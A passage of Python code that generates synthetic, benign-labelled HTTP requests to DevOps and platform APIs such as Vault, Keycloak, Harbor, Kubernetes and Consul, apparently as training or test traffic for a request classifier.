    c.add("gitlab-mr-note", B, "POST", "/api/v4/projects/42/merge_requests/412/notes", gl, tok,
          js({"body": "LGTM 👍 — one nit: the default of 200 req/s feels high for the free tier, maybe 50? Happy to merge either way."}),
          "application/json", ua=UA_TOOLS["python"])
    for uri in ["/api/v4/projects/42/pipelines?ref=main&status=failed&per_page=20", "/api/v4/projects/platform%2Fapi/repository/files/deploy%2Fvalues-prod.yaml/raw?ref=main",
                "/api/v4/projects/42/repository/compare?from=v2.13.0&to=v2.14.0", "/api/v4/groups/platform/projects?include_subgroups=true&per_page=100&order_by=last_activity_at"]:
        c.add("gitlab-api-get", B, "GET", uri, gl, tok, ua=RNG.choice([UA_TOOLS["python"], UA_TOOLS["go"], UA_TOOLS["curl"]]))
    gt = H["gitea"]
    gtok = [["Authorization", "token " + hexs(40)]]
    c.add("gitea-create-pr", B, "POST", "/api/v1/repos/platform/infra/pulls", gt, gtok,
          js({"title": "Bump cert-manager to v1.14.5", "head": "renovate/cert-manager-1.x", "base": "main",
              "body": "This PR contains the following updates:\n\n| Package | Update | Change |\n|---|---|---|\n| cert-manager | patch | `v1.14.4` -> `v1.14.5` |\n\n---\n📅 Schedule: Branch creation - At any time."}),
          "application/json", ua="Renovate/37.368.6")
    c.add("gitea-issue-comment", B, "POST", "/api/v1/repos/platform/infra/issues/77/comments", gt, gtok,
          js({"body": "Sprawdziłem na stagingu – po zmianie limitu pamięci pod nie jest już zabijany przez OOM. Zamykam?"}), "application/json", ua=UA_TOOLS["go"])
    c.add("gitea-api-get", B, "GET", "/api/v1/repos/search?q=helm&sort=updated&order=desc&limit=20&page=1", gt, gtok, ua=UA_TOOLS["go"])


MANIFEST_ACCEPT = ("application/vnd.oci.image.index.v1+json, application/vnd.docker.distribution.manifest.list.v2+json, "
                   "application/vnd.oci.image.manifest.v1+json, application/vnd.docker.distribution.manifest.v2+json")


def ben_harbor(c):
    B = "benign"
    hb = H["harbor"]
    ui = xhr(hb, "/harbor/projects", "sid=%s; _gorilla_csrf=%s" % (hexs(32), b64(alnum(40))), [["X-Harbor-CSRF-Token", b64(alnum(64))]])
    for uri in ["/api/v2.0/projects?page=1&page_size=15&with_detail=true", "/api/v2.0/projects/platform/repositories?page=1&page_size=15&q=name%3D~api",
                "/api/v2.0/projects/platform/repositories/api/artifacts?with_tag=true&with_scan_overview=true&with_label=true&page_size=15&page=1",
                "/api/v2.0/systeminfo", "/api/v2.0/users/current", "/api/v2.0/audit-logs?page=1&page_size=25&q=operation%3Ddelete"]:
        extra = [["X-Accept-Vulnerabilities", "application/vnd.security.vulnerability.report; version=1.1, application/vnd.scanner.adapter.vuln.report.harbor+json; version=1.0"]] if "artifacts" in uri else []
        c.add("harbor-api-get", B, "GET", uri, hb, ui + extra)
    digest = "sha256:" + hexs(64)
    c.add("harbor-scan-artifact", B, "POST", "/api/v2.0/projects/platform/repositories/api/artifacts/%s/scan" % digest, hb, ui, "", "application/json")
    c.add("harbor-robot-create", B, "POST", "/api/v2.0/robots", hb, ui,
          js({"name": "ci-builder", "description": "Push-Rechte für Jenkins", "duration": 90, "level": "project",
              "permissions": [{"kind": "project", "namespace": "platform", "access": [{"resource": "repository", "action": "push"},
                                                                                      {"resource": "repository", "action": "pull"}]}]}), "application/json")
    c.add("registry-token", B, "GET", "/service/token?account=robot%24platform%2Bci-builder&scope=repository%3Aplatform%2Fapi%3Apull%2Cpush&service=harbor-registry",
          hb, [["Authorization", "Basic " + b64("robot$platform+ci-builder:" + alnum(32))]], ua=UA_TOOLS["docker"])
    reg_auth = ["Authorization", "Bearer " + jwt({"iss": "harbor-token-issuer", "sub": "robot$platform+ci-builder", "aud": "harbor-registry",
                                                  "access": [{"type": "repository", "name": "platform/api", "actions": ["pull", "push"]}]})]
    c.add("registry-ping", B, "GET", "/v2/", hb, [], ua=UA_TOOLS["containerd"], accept="*/*")
    c.add("registry-manifest-get", B, "GET", "/v2/platform/api/manifests/2.14.3", hb, [reg_auth], ua=UA_TOOLS["containerd"], accept=MANIFEST_ACCEPT)
    c.add("registry-manifest-head", B, "HEAD", "/v2/library/nginx/manifests/1.25-alpine", hb, [reg_auth], ua=UA_TOOLS["docker"], accept=MANIFEST_ACCEPT)
    c.add("registry-blob-head", B, "HEAD", "/v2/platform/api/blobs/sha256:" + hexs(64), hb, [reg_auth], ua=UA_TOOLS["docker"], accept="*/*")
    c.add("registry-upload-start", B, "POST", "/v2/platform/api/blobs/uploads/", hb, [reg_auth], "", None, ua=UA_TOOLS["docker"], accept="*/*")
    manifest = js({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                   "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": "sha256:" + hexs(64), "size": 7023},
                   "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": "sha256:" + hexs(64), "size": RNG.randrange(10 ** 5, 10 ** 8)}
                              for _ in range(3)],
                   "annotations": {"org.opencontainers.image.source": "https://gitlab.example.com/platform/api",
                                   "org.opencontainers.image.revision": hexs(40), "org.opencontainers.image.created": iso(EPOCH)}}, True)
    c.add("registry-manifest-put", B, "PUT", "/v2/platform/api/manifests/2.14.4", hb, [reg_auth], manifest,
          "application/vnd.oci.image.manifest.v1+json", ua=UA_TOOLS["docker"], accept="*/*")
    c.add("harbor-webhook-delivery", B, "POST", "/hooks/harbor", "ci-relay.platform.example.com", [["Authorization", "Bearer " + alnum(32)]],
          js({"type": "PUSH_ARTIFACT", "occur_at": EPOCH, "operator": "robot$platform+ci-builder",
              "event_data": {"resources": [{"digest": "sha256:" + hexs(64), "tag": "2.14.4", "resource_url": "harbor.platform.example.com/platform/api:2.14.4"}],
                             "repository": {"date_created": EPOCH - 8000000, "name": "api", "namespace": "platform", "repo_full_name": "platform/api", "repo_type": "private"}}}),
          "application/json", ua="Go-http-client/1.1", accept="*/*")


def ben_vault(c):
    B = "benign"
    v = H["vault"]
    c.add("vault-read-secret", B, "GET", "/v1/secret/data/apps/payments/config?version=3", v, [vault_hdr()], ua=UA_TOOLS["vault"])
    c.add("vault-write-secret", B, "POST", "/v1/secret/data/apps/payments/config", v, [vault_hdr(), ["X-Vault-Request", "true"]],
          js({"data": {"db_user": "payments", "db_password": alnum(24) + "!%", "stripe_api_key": "sk_test_" + alnum(24),
                       "smtp_from": "Zahlungen <billing@example.com>"}, "options": {"cas": 4}}), "application/json", ua=UA_TOOLS["vault"])
    c.add("vault-list-metadata", B, "LIST", "/v1/secret/metadata/apps/", v, [vault_hdr()], ua=UA_TOOLS["vault"])
    c.add("vault-list-query", B, "GET", "/v1/secret/metadata/apps/payments/?list=true", v, [vault_hdr()], ua=UA_TOOLS["terraform"])
    c.add("vault-health", B, "GET", "/v1/sys/health?standbyok=true&perfstandbyok=true", v, [], ua=UA_TOOLS["probe"], accept="*/*")
    sa = jwt({"aud": ["https://kubernetes.default.svc.cluster.local"], "exp": EPOCH + 3600, "iat": EPOCH, "iss": "https://kubernetes.default.svc.cluster.local",
              "kubernetes.io": {"namespace": "payments", "serviceaccount": {"name": "api", "uid": fake_uuid()}}, "sub": "system:serviceaccount:payments:api"})
    c.add("vault-k8s-login", B, "POST", "/v1/auth/kubernetes/login", v, [], js({"role": "payments-api", "jwt": sa}), "application/json", ua=UA_TOOLS["vault"])
    c.add("vault-token-lookup-self", B, "GET", "/v1/auth/token/lookup-self", v, [vault_hdr()], ua=UA_TOOLS["vault"])
    c.add("vault-lease-renew", B, "PUT", "/v1/sys/leases/renew", v, [vault_hdr()],
          js({"lease_id": "database/creds/readonly/" + alnum(24), "increment": 3600}), "application/json", ua=UA_TOOLS["vault"])
    c.add("vault-db-creds", B, "GET", "/v1/database/creds/readonly", v, [vault_hdr()], ua=UA_TOOLS["vault"])
    c.add("vault-transit-encrypt", B, "POST", "/v1/transit/encrypt/customer-pii", v, [vault_hdr()],
          js({"plaintext": b64("IBAN DE89 3704 0044 0532 0130 00"), "context": b64("tenant-4411")}), "application/json", ua=UA_TOOLS["go"])
    c.add("vault-transit-decrypt", B, "POST", "/v1/transit/decrypt/customer-pii", v, [vault_hdr()],
          js({"ciphertext": "vault:v1:" + b64(bytes(RNG.randrange(256) for _ in range(48))), "context": b64("tenant-4411")}), "application/json", ua=UA_TOOLS["go"])
    c.add("vault-pki-issue", B, "POST", "/v1/pki_int/issue/internal", v, [vault_hdr()],
          js({"common_name": "api.payments.svc.cluster.local", "alt_names": "api.example.com,payments-api.example.com", "ttl": "72h", "format": "pem"}),
          "application/json", ua="cert-manager-vault/v1.14.5")
    c.add("vault-sys-mounts", B, "GET", "/v1/sys/mounts", v, xhr(v, "/ui/vault/secrets", None, [vault_hdr()]))
    c.add("vault-policy-read", B, "GET", "/v1/sys/policies/acl/payments-api", v, xhr(v, "/ui/vault/policies/acl", None, [vault_hdr()]))
    c.add("vault-oidc-auth-url", B, "POST", "/v1/auth/oidc/oidc/auth_url", v, xhr(v, "/ui/vault/auth?with=oidc"),
          js({"role": "ops", "redirect_uri": "https://vault.platform.example.com/ui/vault/auth/oidc/oidc/callback"}), "application/json")
    c.add("vault-ui-page", B, "GET", "/ui/vault/secrets/secret/kv/list", v, nav(), accept=HTML_ACCEPT)


def kc_admin():
    return [bearer(), ["Accept-Language", "en-US,en;q=0.9"], ["Origin", "https://" + H["keycloak"]]]


def ben_keycloak(c):
    B = "benign"
    kc = H["keycloak"]
    tok = "/realms/platform/protocol/openid-connect/token"
    c.add("keycloak-token-client-credentials", B, "POST", tok, kc, [["Authorization", "Basic " + b64("inventory-service:" + alnum(32))]],
          form([("grant_type", "client_credentials"), ("scope", "openid inventory:read")]), "application/x-www-form-urlencoded", ua=UA_TOOLS["go"])
    c.add("keycloak-token-refresh", B, "POST", tok, kc, [],
          form([("grant_type", "refresh_token"), ("client_id", "ops-console"), ("refresh_token", jwt({"typ": "Refresh", "sub": fake_uuid()}, "HS256"))]),
          "application/x-www-form-urlencoded", ua=ua_browser())
    c.add("keycloak-token-code-pkce", B, "POST", tok, kc, [],
          form([("grant_type", "authorization_code"), ("client_id", "grafana"), ("client_secret", alnum(32)),
                ("code", "%s.%s.%s" % (fake_uuid(), fake_uuid(), fake_uuid())),
                ("redirect_uri", "https://grafana.ops.example.com/login/generic_oauth"), ("code_verifier", b64u(bytes(RNG.randrange(256) for _ in range(48))))]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["grafana"])
    for uri in ["/realms/platform/.well-known/openid-configuration", "/realms/platform/protocol/openid-connect/certs"]:
        c.add("keycloak-oidc-discovery", B, "GET", uri, kc, [], ua=RNG.choice([UA_TOOLS["go"], UA_TOOLS["grafana"], UA_TOOLS["okhttp"]]))
    c.add("keycloak-userinfo", B, "GET", "/realms/platform/protocol/openid-connect/userinfo", kc, [bearer()], ua=UA_TOOLS["grafana"])
    c.add("keycloak-auth-redirect", B, "GET", "/realms/platform/protocol/openid-connect/auth?" + form([
        ("client_id", "argocd"), ("redirect_uri", "https://argocd.platform.example.com/auth/callback"), ("response_type", "code"),
        ("scope", "openid profile email groups"), ("state", alnum(24)), ("code_challenge", b64u(bytes(RNG.randrange(256) for _ in range(32)))),
        ("code_challenge_method", "S256")]), kc, nav("https://%s/" % H["argocd"]), accept=HTML_ACCEPT)
    c.add("keycloak-login-form", B, "POST", "/realms/platform/login-actions/authenticate?session_code=%s&execution=%s&client_id=argocd&tab_id=%s" % (alnum(43), fake_uuid(), alnum(11)),
          kc, nav("https://%s/realms/platform/protocol/openid-connect/auth" % kc, "AUTH_SESSION_ID=%s.keycloak-0; KC_RESTART=%s" % (fake_uuid(), jwt({"cid": "argocd"}, "HS256"))),
          form([("username", "lwisniewski"), ("password", "Zażółć-gęślą-jaźń-2024"), ("credentialId", "")]), "application/x-www-form-urlencoded", accept=HTML_ACCEPT)
    c.add("keycloak-logout", B, "GET", "/realms/platform/protocol/openid-connect/logout?" + form([
        ("id_token_hint", jwt({"typ": "ID", "sub": fake_uuid()})), ("post_logout_redirect_uri", "https://grafana.ops.example.com/login")]),
        kc, nav("https://grafana.ops.example.com/"), accept=HTML_ACCEPT)
    adm = "/admin/realms/platform"
    for first, last, user in PEOPLE[:8]:
        term = RNG.choice([last, user, first])
        c.add("keycloak-admin-user-search", B, "GET", adm + "/users?briefRepresentation=true&first=0&max=21&q=&search=" + q(term), kc, kc_admin(),
              ua=ua_browser())
    for first, last, user in PEOPLE[8:13]:
        c.add("keycloak-admin-user-create", B, "POST", adm + "/users", kc, kc_admin(),
              js({"username": user, "email": "%s@example.com" % user, "firstName": first, "lastName": last, "enabled": True, "emailVerified": False,
                  "attributes": {"department": [RNG.choice(["Plattform-Team", "Équipe Données", "SRE", "Finanzas"])], "locale": [RNG.choice(["de", "fr", "en", "es", "pl"])]},
                  "groups": ["/ops"], "requiredActions": ["VERIFY_EMAIL"]}), "application/json", ua=ua_browser())
    uid = fake_uuid()
    c.add("keycloak-admin-role-mapping", B, "POST", adm + "/users/%s/role-mappings/realm" % uid, kc, kc_admin(),
          js([{"id": fake_uuid(), "name": "grafana-editor", "composite": False, "clientRole": False, "containerId": fake_uuid()}]), "application/json")
    c.add("keycloak-admin-reset-password", B, "PUT", adm + "/users/%s/reset-password" % uid, kc, kc_admin(),
          js({"type": "password", "value": "Temp-" + alnum(10) + "#1", "temporary": True}), "application/json")
    c.add("keycloak-admin-execute-actions", B, "PUT", adm + "/users/%s/execute-actions-email?lifespan=43200" % uid, kc, kc_admin(),
          js(["VERIFY_EMAIL", "UPDATE_PASSWORD"]), "application/json")
    for uri in [adm + "/clients?clientId=grafana&first=0&max=11&search=true", adm + "/groups?briefRepresentation=true&first=0&max=11&q=&search=",
                adm + "/events?type=LOGIN_ERROR&dateFrom=2024-06-01&first=0&max=100", adm + "/clients/%s/user-sessions?first=0&max=11" % fake_uuid()]:
        c.add("keycloak-admin-get", B, "GET", uri, kc, kc_admin())
    saml = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" '
            'IssueInstant="%s" Destination="https://sso.example.com/realms/platform/broker/corp-adfs/endpoint"><saml:Issuer>http://adfs.example.net/adfs/services/trust</saml:Issuer>'
            '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="_%s" Version="2.0" IssueInstant="%s">'
            '<saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">fyilmaz@example.com</saml:NameID></saml:Subject>'
            '<saml:AttributeStatement><saml:Attribute Name="http://schemas.xmlsoap.org/ws/2005/05/identity/claims/givenname"><saml:AttributeValue>Fatma</saml:AttributeValue></saml:Attribute>'
            '</saml:AttributeStatement></saml:Assertion></samlp:Response>' % (hexs(32), iso(EPOCH), hexs(32), iso(EPOCH)))
    c.add("keycloak-saml-post-binding", B, "POST", "/realms/platform/broker/corp-adfs/endpoint", kc, nav("https://adfs.example.net/"),
          form([("SAMLResponse", b64(saml)), ("RelayState", alnum(22))]), "application/x-www-form-urlencoded", accept=HTML_ACCEPT)


def ben_consul_etcd(c):
    B = "benign"
    cs = H["consul"]
    ct = [["X-Consul-Token", fake_uuid()]]
    for uri in ["/v1/kv/config/payments/?recurse=true", "/v1/health/service/api?passing=true&dc=dc1&tag=prod",
                "/v1/catalog/services?dc=dc1", "/v1/status/leader", "/v1/agent/members?segment=_all",
                "/v1/health/state/critical", "/v1/kv/config/checkout/feature-flags?index=%d&wait=5m" % RNG.randrange(10 ** 5, 10 ** 7)]:
        c.add("consul-api-get", B, "GET", uri, cs, ct, ua=RNG.choice(["consul-template/v0.37.4 (https://github.com/hashicorp/consul-template)", UA_TOOLS["go"], UA_TOOLS["curl"]]))
    c.add("consul-kv-put", B, "PUT", "/v1/kv/config/checkout/feature-flags?cas=%d" % RNG.randrange(1000, 99999), cs, ct,
          js({"new_checkout_flow": {"enabled": True, "rollout_percent": 25}, "express_shipping": {"enabled": False, "countries": ["DE", "AT", "CH"]}}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("consul-service-register", B, "PUT", "/v1/agent/service/register", cs, ct,
          js({"ID": "billing-7f9c", "Name": "billing", "Tags": ["v2", "prod"], "Address": "billing.example.com", "Port": 8443,
              "Meta": {"version": "2.3.1", "owner": "team-finance"},
              "Check": {"HTTP": "https://billing.example.com:8443/healthz", "Interval": "10s", "Timeout": "2s", "DeregisterCriticalServiceAfter": "1m"}}),
          "application/json", ua=UA_TOOLS["go"])
    c.add("consul-session-create", B, "PUT", "/v1/session/create", cs, ct, js({"Name": "leader-election-billing", "TTL": "15s", "Behavior": "delete"}),
          "application/json", ua=UA_TOOLS["go"])
    e = H["etcd"]
    c.add("etcd-range-keys", B, "POST", "/v3/kv/range", e, [],
          js({"key": b64("/registry/deployments/payments/"), "range_end": b64("/registry/deployments/payments0"), "keys_only": True, "limit": 100}),
          "application/json", ua=UA_TOOLS["curl"])
    c.add("etcd-lease-grant", B, "POST", "/v3/lease/grant", e, [], js({"TTL": 30}), "application/json", ua=UA_TOOLS["go"])
    c.add("etcd-put", B, "POST", "/v3/kv/put", e, [], js({"key": b64("/config/edge/maintenance"), "value": b64('{"enabled":false,"message":"Wartung Sonntag 02:00-04:00"}')}),
          "application/json", ua=UA_TOOLS["go"])
    c.add("etcd-maintenance-status", B, "POST", "/v3/maintenance/status", e, [], "{}", "application/json", ua=UA_TOOLS["curl"])
    for uri in ["/health", "/version"]:
        c.add("etcd-get", B, "GET", uri, e, [], ua=UA_TOOLS["prometheus"] if uri == "/health" else UA_TOOLS["curl"])


def ben_envoy(c):
    B = "benign"
    ev = H["envoy"]
    for uri in ["/stats?usedonly&filter=" + q("cluster.outbound|8080||api.payments.svc.cluster.local.upstream_rq_5xx") + "&format=json",
                "/clusters?format=json", "/ready", "/server_info", "/listeners?format=json", "/certs", "/stats?filter=%5Ehttp%5C.inbound_0%5C.&format=prometheus"]:
        c.add("envoy-admin-get", B, "GET", uri, ev, [], ua=UA_TOOLS["curl"], accept="*/*")
    c.add("envoy-logging-level", B, "POST", "/logging?level=info", ev, [], "", "text/plain", ua=UA_TOOLS["curl"], accept="*/*")
    for uri in ["/debug/syncz", "/debug/config_dump?proxyID=api-7d9f8.payments", "/ready"]:
        c.add("istiod-debug-get", B, "GET", uri, H["istiod"], [["Authorization", "Bearer " + jwt({"iss": "kubernetes/serviceaccount"})]] if "debug" in uri else [],
              ua="istioctl/1.21.2" if "debug" in uri else UA_TOOLS["probe"], accept="*/*")
    c.add("envoy-hc", B, "GET", "/healthz", H["go"], [["x-envoy-expected-rq-timeout-ms", "2000"]], ua=UA_TOOLS["envoy"], accept="*/*")


SEARCH_TERMS = ["gpu nodes in frankfurt", "Rechnung März 2024", "facture impayée", "pedido 4411 retrasado", "zamówienie zwrot",
                "注文 キャンセル", "退款 申请", "O'Reilly Media", "Smith & Wesson", "50% off – summer sale", "C++ developer", "node-17 disk pressure",
                "\"exact phrase\" -excluded", "tenant:acme status:open", "why is checkout slow?"]


def ben_services(c):
    B = "benign"
    sp = H["spring"]
    for uri in ["/actuator/health", "/actuator/health/liveness", "/actuator/health/readiness", "/actuator/info",
                "/actuator/metrics/http.server.requests?tag=uri:/api/v1/orders&tag=status:200", "/actuator/loggers/com.example.orders"]:
        c.add("spring-actuator-get", B, "GET", uri, sp, [], ua=UA_TOOLS["probe"] if "health" in uri else UA_TOOLS["curl"],
              accept="application/vnd.spring-boot.actuator.v3+json, application/json")
    c.add("spring-actuator-logger-level", B, "POST", "/actuator/loggers/com.example.orders.payment", sp, [], js({"configuredLevel": "DEBUG"}),
          "application/json", ua=UA_TOOLS["curl"])
    tok = [bearer()]
    for uri in ["/api/v1/orders?status=OPEN&status=PENDING&createdAfter=%s&sort=createdAt,desc&page=0&size=50" % q(iso(EPOCH - 7 * 86400)),
                "/api/v1/orders/ORD-2024-004411", "/api/v1/customers?search=%s&page=0&size=20" % q("Müller-Lüdenscheidt"),
                "/api/v1/orders/export?format=csv&from=2024-05-01&to=2024-05-31&tz=Europe%2FWarsaw"]:
        c.add("spring-api-get", B, "GET", uri, sp, xhr("console.example.com", "/orders", None, tok))
    c.add("spring-order-create", B, "POST", "/api/v1/orders", sp, tok,
          js({"customerId": "CUS-88213", "currency": "EUR", "items": [{"sku": "SKU-BLK-42", "qty": 2, "unitPrice": "19.90"},
                                                                     {"sku": "SKU-WHT-07", "qty": 1, "unitPrice": "149.00"}],
              "shippingAddress": {"name": "Zoë Dubois", "street": "12, rue de l'Église", "city": "Saint-Étienne", "zip": "42000", "country": "FR"},
              "note": "Merci de livrer après 18 h — code porte 4B"}), "application/json", ua=UA_TOOLS["okhttp"])
    c.add("spring-order-status", B, "PUT", "/api/v1/orders/ORD-2024-004411/status", sp, tok,
          js({"status": "SHIPPED", "trackingNumber": "JJD000390007%09d" % RNG.randrange(10 ** 8), "carrier": "DHL"}), "application/json", ua=UA_TOOLS["okhttp"])
    nd = H["node"]
    ui = xhr("admin.example.com", "/users", None, tok)
    c.add("node-login", B, "POST", "/api/auth/login", nd, xhr(nd, "/login"),
          js({"username": "praman", "password": "c0rrect-h0rse-battery-staple", "remember": True}), "application/json")
    for term in SEARCH_TERMS[:10]:
        c.add("node-admin-search", B, "GET", "/api/admin/search?q=%s&limit=20" % q(term), nd, ui)
    c.add("node-users-cursor", B, "GET", "/api/admin/users?limit=50&cursor=" + b64u(js({"id": 1234, "createdAt": iso(EPOCH - 99999)})), nd, ui)
    for first, last, user in PEOPLE[:5]:
        c.add("node-profile-update", B, "PATCH", "/api/admin/users/" + user, nd, ui,
              js({"displayName": "%s %s" % (first, last), "timezone": RNG.choice(["Europe/Berlin", "Asia/Tokyo", "America/Sao_Paulo", "Europe/Paris"]),
                  "bio": RNG.choice(["SRE, Schwerpunkt Observability. Ansprechpartner für Grafana & Loki.",
                                     "Responsable de la plateforme de paiement — joignable via #payments.",
                                     "Platform engineer; on-call every 4th week. Ask me about Argo CD!",
                                     "データ基盤チーム所属。ETL とダッシュボードを担当しています。",
                                     "Ingeniera de datos; prefiero español o inglés."])}), "application/json")
    csv_body = "email,first_name,last_name,team\njdoe@example.com,John,Doe,SRE\nfyilmaz@example.com,Fatma,Yılmaz,Data\nsobrien@example.com,Siobhán,O'Brien,Payments\n"
    body, ct = multipart([("file", csv_body, "users-2024-06.csv", "text/csv"), ("dryRun", "false", None, None)])
    c.add("node-users-import-csv", B, "POST", "/api/admin/users/import", nd, ui, body, ct)
    body, ct = multipart([("attachment", js({"incident": "INC-4821", "timeline": [{"t": iso(EPOCH - 3000), "event": "page fired"},
                                                                                  {"t": iso(EPOCH - 2400), "event": "rollback started"}]}, True),
                           "timeline.json", "application/json"), ("comment", "Chronologie du 3 juin, à compléter", None, None)])
    c.add("node-incident-attachment", B, "POST", "/api/admin/incidents/INC-4821/attachments", nd, ui, body, ct)
    c.add("node-feature-flag", B, "PATCH", "/api/admin/flags/new-checkout", nd, ui,
          js({"enabled": True, "rollout": {"percent": 25, "segments": ["beta-testers", "employees"]}, "updatedBy": "praman"}), "application/json")
    c.add("node-api-key-create", B, "POST", "/api/admin/api-keys", nd, ui,
          js({"name": "grafana-infinity", "scopes": ["reports:read"], "expiresAt": iso(EPOCH + 90 * 86400)}), "application/json")
    c.add("node-graphql", B, "POST", "/graphql", nd, ui,
          js({"operationName": "TenantUsage", "query": "query TenantUsage($id: ID!, $from: DateTime!) { tenant(id: $id) { name usage(from: $from) { day requests errors } } }",
              "variables": {"id": "tnt_4411", "from": iso(EPOCH - 30 * 86400)}}), "application/json")
    gs = H["go"]
    gtok = [bearer()]
    for uri in ["/v1/items?label=env%3Dprod&label=tier%3Dweb&sort=-updated_at&page_size=100&page_token=" + b64u(alnum(18)),
                "/v1/items/4411", "/v1/items?q=" + q(SEARCH_TERMS[0]) + "&region=eu-central-1",
                "/v1/items?fields=id,name,labels&updated_since=" + q(iso(EPOCH - 3600)), "/healthz", "/readyz"]:
        c.add("go-api-get", B, "GET", uri, gs, gtok if "z" not in uri[-2:] else [], ua=UA_TOOLS["go"] if "z" not in uri[-2:] else UA_TOOLS["probe"])
    c.add("go-item-create", B, "POST", "/v1/items", gs, gtok,
          js({"name": "gpu-node-a100-07", "kind": "node", "labels": {"env": "prod", "zone": "eu-central-1b", "nvidia.com/gpu.product": "A100-SXM4-80GB"},
              "specs": {"cpu": 96, "memory_gib": 1152, "gpus": 8}, "owner": "ml-platform@example.com"}), "application/json", ua=UA_TOOLS["go"])
    c.add("go-item-json-patch", B, "PATCH", "/v1/items/4411", gs, gtok,
          js([{"op": "replace", "path": "/labels/env", "value": "staging"}, {"op": "add", "path": "/labels/cost-center", "value": "CC-4410"},
              {"op": "remove", "path": "/annotations/legacy"}]), "application/json-patch+json", ua=UA_TOOLS["go"])
    c.add("go-item-delete", B, "DELETE", "/v1/items/4410?reason=" + q("decommissioned – replaced by 4411"), gs, gtok, ua=UA_TOOLS["go"])
    c.add("go-bulk-ndjson", B, "POST", "/v1/items:batchImport", gs, gtok,
          "\n".join(js({"name": "edge-%02d" % i, "kind": "node", "labels": {"site": RNG.choice(["fra1", "ams2", "waw1"])}}) for i in range(5)) + "\n",
          "application/x-ndjson", ua=UA_TOOLS["python"])
    # Connect and gRPC-web
    cn = H["connect"]
    for svc, msg in [("acme.billing.v1.InvoiceService/ListInvoices", {"customerId": "cus_" + alnum(14), "pageSize": 50, "status": ["INVOICE_STATUS_OPEN"]}),
                     ("acme.billing.v1.InvoiceService/GetInvoice", {"id": "in_" + alnum(20)}),
                     ("acme.billing.v1.PaymentService/CreateRefund", {"paymentId": "pay_" + alnum(18), "amount": {"currencyCode": "EUR", "units": "12", "nanos": 500000000},
                                                                    "reason": "Doppelte Abbuchung laut Kundin"})]:
        c.add("connect-unary-json", B, "POST", "/" + svc, cn,
              [["Connect-Protocol-Version", "1"], ["Connect-Timeout-Ms", "15000"], bearer()], js(msg), "application/json", ua=UA_TOOLS["connect-go"])
    c.add("connect-get-idempotent", B, "GET", "/acme.billing.v1.InvoiceService/GetInvoice?connect=v1&encoding=json&message=" + q(js({"id": "in_" + alnum(20)})),
          cn, [bearer()], ua="connect-es/1.4.0")
    for name in ["payments", "checkout"]:
        pb = b"\x0a" + bytes([len(name)]) + name.encode() + b"\x10\x32"
        frame = b"\x00" + len(pb).to_bytes(4, "big") + pb
        c.add("grpc-web-text", B, "POST", "/acme.inventory.v1.ClusterService/ListWorkloads", cn,
              [["X-Grpc-Web", "1"], ["X-User-Agent", "grpc-web-javascript/0.1"], ["Origin", "https://console.example.com"]],
              b64(frame), "application/grpc-web-text", ua=ua_browser(), accept="application/grpc-web-text")


def ben_kubernetes(c):
    B = "benign"
    k = H["k8s"]
    kh = [k8s_hdr()]
    for uri in ["/api/v1/namespaces/payments/pods?labelSelector=" + q("app=api,tier in (web,worker)") + "&limit=500",
                "/api/v1/pods?fieldSelector=" + q("status.phase=Running,spec.nodeName=node-17") + "&limit=500",
                "/api/v1/namespaces/payments/pods?allowWatchBookmarks=true&resourceVersion=%d&timeoutSeconds=412&watch=true" % RNG.randrange(10 ** 7, 10 ** 8),
                "/apis/apps/v1/namespaces/payments/deployments/api", "/api/v1/namespaces/payments/events?fieldSelector=" + q("involvedObject.name=api-7d9f8,type=Warning"),
                "/api/v1/namespaces/payments/pods/api-7d9f8/log?container=api&tailLines=500&timestamps=true",
                "/apis/argoproj.io/v1alpha1/namespaces/argocd/applications?limit=250", "/apis/metrics.k8s.io/v1beta1/nodes",
                "/openapi/v3", "/version", "/readyz?verbose", "/api/v1/namespaces?labelSelector=" + q("kubernetes.io/metadata.name!=kube-system")]:
        c.add("k8s-api-get", B, "GET", uri, k, kh, ua=RNG.choice([UA_TOOLS["kubectl"], UA_TOOLS["kubectl-mac"]]),
              accept="application/json;as=Table;v=v1;g=meta.k8s.io,application/json;as=Table;v=v1beta1;g=meta.k8s.io,application/json" if "pods?" in uri and "watch" not in uri else None)
    c.add("k8s-scale-strategic", B, "PATCH", "/apis/apps/v1/namespaces/payments/deployments/api/scale", k, kh, js({"spec": {"replicas": 5}}),
          "application/strategic-merge-patch+json", ua=UA_TOOLS["kubectl"])
    c.add("k8s-image-json-patch", B, "PATCH", "/apis/apps/v1/namespaces/payments/deployments/api", k, kh,
          js([{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "harbor.platform.example.com/platform/api:2.14.4"}]),
          "application/json-patch+json", ua=UA_TOOLS["kubectl"])
    c.add("k8s-rollout-restart", B, "PATCH", "/apis/apps/v1/namespaces/checkout/deployments/web?fieldManager=kubectl-rollout", k, kh,
          js({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": iso(EPOCH).replace("Z", "+02:00")}}}}}),
          "application/strategic-merge-patch+json", ua=UA_TOOLS["kubectl-mac"])
    c.add("k8s-server-side-apply", B, "PATCH", "/api/v1/namespaces/payments/configmaps/api-config?fieldManager=argocd-controller&force=true", k, kh,
          "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: api-config\n  namespace: payments\n  labels:\n    app.kubernetes.io/name: api\ndata:\n"
          "  LOG_LEVEL: info\n  FEATURE_NEW_CHECKOUT: \"true\"\n  GREETING_DE: \"Willkommen zurück!\"\n  GREETING_JA: \"おかえりなさい\"\n",
          "application/apply-patch+yaml", ua="argocd-application-controller/v2.11.3")
    c.add("k8s-selfsubjectaccessreview", B, "POST", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", k, kh,
          js({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1",
              "spec": {"resourceAttributes": {"namespace": "payments", "verb": "create", "group": "apps", "resource": "deployments"}}}),
          "application/json", ua=UA_TOOLS["kubectl"])
